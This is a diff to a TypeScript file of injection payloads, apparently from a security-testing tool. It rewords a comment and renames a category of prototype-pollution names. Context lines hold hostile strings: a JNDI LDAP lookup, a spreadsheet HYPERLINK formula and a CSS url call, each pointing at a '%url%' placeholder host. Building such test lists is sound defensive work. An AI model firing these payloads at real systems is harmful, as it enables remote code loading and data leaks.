@@ -1,6 +1,6 @@
 import type { Payloads } from './payloads.ts'
 
-/** Texts with a meaning in style sheets, message formats, JavaScript objects and element names. */
+/** Payloads for style sheets, message formats, properties of JavaScript objects, and ids and names of elements. */
 export const TEXTS: Payloads = {
   styles: [
     'background:url(%url%)',
@@ -35,7 +35,7 @@ export const TEXTS: Payloads = {
     '=HYPERLINK("https:%url%")',
     '${jndi:ldap:%url%}',
   ],
-  'inherited names': [
+  'reserved names': [
     '__proto__',
     'constructor',
     'toString',
